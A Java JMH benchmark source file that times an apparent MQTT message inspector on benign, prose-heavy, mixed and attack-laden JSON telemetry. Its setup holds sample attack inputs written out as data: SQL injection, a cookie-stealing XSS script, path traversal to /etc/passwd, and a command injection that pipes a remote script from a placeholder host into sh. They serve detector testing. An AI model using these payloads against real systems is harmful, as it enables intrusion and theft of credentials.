package io.mqttsentinel.bench.inspect;

import io.mqttsentinel.testkit.TelemetryGenerator;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import io.mqttsentinel.api.MessageContext;
import io.mqttsentinel.api.PayloadInspector;
import io.mqttsentinel.api.Ticker;
import io.mqttsentinel.api.Verdict;
import io.mqttsentinel.inspect.InspectorConfig;
import io.mqttsentinel.inspect.Inspectors;
import io.mqttsentinel.inspect.SignatureInspector;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Level;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * Throughput of the inspector on one core. Bytes per operation are printed at setup, so MB/s =
 * bytes / (ns/op) * 1000. Run with {@code -prof gc} to see the allocation per operation.
 *
 * <pre>java -jar sentinel-bench/target/benchmarks.jar InspectorBenchmark -f 1 -wi 2 -i 3 -w 2s -r 2s -prof gc</pre>
 */
@State(Scope.Thread)
@BenchmarkMode(Mode.AverageTime)
@OutputTimeUnit(TimeUnit.NANOSECONDS)
@Warmup(iterations = 2, time = 2)
@Measurement(iterations = 3, time = 2)
@Fork(1)
public class InspectorBenchmark {

    private static final int SET = 64;

    private PayloadInspector signatures;
    private PayloadInspector standard;
    private final MessageContext context = new MessageContext("sensor-1", "devices/sensor-1/telemetry", 1, "", 0L);
    /** 1 KB JSON telemetry: timestamps, numbers, short status strings (the fast path). */
    private ByteBuffer[] benign1k;
    /** 1 KB JSON telemetry whose every string is prose with quotes, select/union/or/and, paths and URLs. */
    private ByteBuffer[] expensive1k;
    /** 1 KB JSON whose every value is text drawn from the generator's notes, names, paths and URLs. */
    private ByteBuffer[] prose1k;
    /** 1 KB JSON telemetry with one prose value that needs the detectors (the usual expensive message). */
    private ByteBuffer[] oneSuspicious1k;
    /** The generator's mix: JSON of all kinds, text lines, binary frames. */
    private ByteBuffer[] mixed;
    /** 1 KB JSON telemetry carrying one attack in a string value (blocked). */
    private ByteBuffer[] attack1k;
    private int i;

    @Setup(Level.Trial)
    public void setUp() {
        signatures = SignatureInspector.withDefaults();
        standard = Inspectors.standard(InspectorConfig.builder().rateLimit(InspectorConfig.MAX_RATE).build(), new SimpleMeterRegistry(),
                Ticker.system());
        TelemetryGenerator gen = new TelemetryGenerator(42);
        benign1k = new ByteBuffer[SET];
        expensive1k = new ByteBuffer[SET];
        mixed = new ByteBuffer[SET];
        attack1k = new ByteBuffer[SET];
        oneSuspicious1k = new ByteBuffer[SET];
        prose1k = new ByteBuffer[SET];
        String[] notes = {
            "Operator's note: select the union hall sensors and drop readings below 0",
            "It's fine, don't worry - we'll check it tomorrow; 1 or 2 units offline",
            "User said: \"the drop-down didn't load\" at /var/log/app.log",
            "check https://status.example.com/devices?id=42&view=full or call O'Brien & Sons",
        };
        String[] attacks = {
            "1' OR '1'='1", "-1 UNION SELECT username,password FROM users--", "; cat /etc/passwd",
            "<script>alert(document.cookie)</script>", "..%2f..%2f..%2fetc%2fpasswd", "$(curl http://x/a.sh|sh)",
        };
        for (int k = 0; k < SET; k++) {
            benign1k[k] = ByteBuffer.wrap(gen.jsonOfSize(1024));
            mixed[k] = ByteBuffer.wrap(gen.next());
            expensive1k[k] = ByteBuffer.wrap(prose(notes, k));
            prose1k[k] = ByteBuffer.wrap(gen.proseJsonOfSize(1024));
            String body = new String(gen.jsonOfSize(1000), StandardCharsets.UTF_8);
            String attack = attacks[k % attacks.length].replace("\\", "\\\\").replace("\"", "\\\"");
            attack1k[k] = ByteBuffer.wrap(("{\"note\":\"" + attack + "\"," + body.substring(1)).getBytes(StandardCharsets.UTF_8));
            String note = notes[k % notes.length].replace("\"", "\\\"");
            oneSuspicious1k[k] = ByteBuffer.wrap(("{\"note\":\"" + note + "\"," + body.substring(1)).getBytes(StandardCharsets.UTF_8));
        }
        System.out.printf("%nbytes/op: benign1k=%.0f expensive1k=%.0f prose1k=%.0f oneSuspicious1k=%.0f mixed=%.0f attack1k=%.0f%n",
                avg(benign1k), avg(expensive1k), avg(prose1k), avg(oneSuspicious1k), avg(mixed), avg(attack1k));
    }

    private static byte[] prose(String[] notes, int k) {
        StringBuilder sb = new StringBuilder("{\"device\":\"sensor-" + k + "\"");
        int n = 0;
        while (sb.length() < 1000) {
            String note = notes[(k + n) % notes.length].replace("\"", "\\\"");
            sb.append(",\"note").append(n++).append("\":\"").append(note).append('"');
        }
        return sb.append('}').toString().getBytes(StandardCharsets.UTF_8);
    }

    private static double avg(ByteBuffer[] set) {
        List<Integer> sizes = new ArrayList<>();
        for (ByteBuffer b : set) {
            sizes.add(b.remaining());
        }
        return sizes.stream().mapToInt(Integer::intValue).average().orElse(0);
    }

    private ByteBuffer next(ByteBuffer[] set) {
        i = (i + 1) & (SET - 1);
        return set[i];
    }

    @Benchmark
    public Verdict signaturesBenign1k() {
        return signatures.inspect(context, next(benign1k));
    }

    @Benchmark
    public Verdict signaturesExpensive1k() {
        return signatures.inspect(context, next(expensive1k));
    }

    @Benchmark
    public Verdict signaturesProse1k() {
        return signatures.inspect(context, next(prose1k));
    }

    @Benchmark
    public Verdict signaturesOneSuspicious1k() {
        return signatures.inspect(context, next(oneSuspicious1k));
    }

    @Benchmark
    public Verdict signaturesAttack1k() {
        return signatures.inspect(context, next(attack1k));
    }

    @Benchmark
    public Verdict signaturesMixed() {
        return signatures.inspect(context, next(mixed));
    }

    @Benchmark
    public Verdict standardBenign1k() {
        return standard.inspect(context, next(benign1k));
    }
}
